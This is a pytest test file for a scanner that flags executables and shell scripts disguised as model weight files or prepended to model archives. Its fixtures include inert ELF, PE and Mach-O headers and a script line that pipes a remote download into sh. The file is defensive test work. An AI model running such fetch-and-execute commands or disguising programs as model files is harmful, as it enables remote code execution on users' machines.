"""Programs under the names of models and in front of their archives, each with a twin."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from tests.cases import each
from tests.engines.modelfiles.building import dumps, found, judged
from veritensor_ray.core.config import Settings
from veritensor_ray.core.detection import FileInfo, Judged
from veritensor_ray.core.media_types import PYTORCH
from veritensor_ray.engines.modelfiles import ModelFiles
from veritensor_ray.engines.modelfiles.disguised import WEIGHTS

ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
SCRIPT = b"#!/bin/sh\ncurl -s https://example.org/x | sh\nexit\n"
WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(100)
MACH = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(100)


def archive(front: bytes = b"") -> bytes:
    out = io.BytesIO(front)
    out.seek(len(front))
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("m/data.pkl", dumps({"a": 1}, 2))
        made.writestr("m/version", b"3\n")
    return out.getvalue()


@each("extension", sorted(WEIGHTS))
@each(("data", "what"), [(ELF, "an ELF program"), (SCRIPT, "a script"), (WINDOWS, "a Windows program"), (MACH, "a Mach-O program")])
def test_programs_with_the_names_of_models(data: bytes, what: str, extension: str) -> None:
    assert ("disguised-program", what) in found(data, f"pytorch_model{extension}")
    passed = judged(data, f"pytorch_model{extension}")
    assert passed is not None
    assert passed.verdict != "inert"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (ELF, "train"),
        (ELF, "libtrain.so"),
        (SCRIPT, "train.sh"),
        (b"MZ" + bytes(range(200)), "numbers.bin"),
        (b"#! a comment\n", "notes.bin"),
        (b"\0\0\x80?" * 40, "numbers.bin"),
        (b"a list of words\n", "words.bin"),
    ],
)
def test_programs_and_numbers_under_their_own_names(data: bytes, name: str) -> None:
    assert found(data, name) == []


@each("name", ["first.pt", "first.bin", "first.ckpt", "first.keras"])
@each(
    ("front", "expected"),
    [
        (SCRIPT, [("disguised-program", "a script")]),
        (ELF, [("disguised-program", "an ELF program")]),
        (b"\x01\x02\xff\xfe" * 20, []),
        (b"\xff some bytes \0\x01\x02", []),
    ],
)
def test_what_stands_in_front_of_an_archive(front: bytes, expected: list[tuple[str, str]], name: str) -> None:
    data = archive(front)
    assert found(data, name) == expected
    passed = judged(data, name)
    assert passed is not None
    assert passed.verdict != "inert"


def test_an_archive_by_itself() -> None:
    about = FileInfo("first.pt", len(archive()), PYTORCH)
    found = list(ModelFiles(Settings()).scan_file(io.BytesIO(archive()), about))
    assert [one.verdict for one in found if isinstance(one, Judged)] == ["inert"]
    assert len(found) == 1
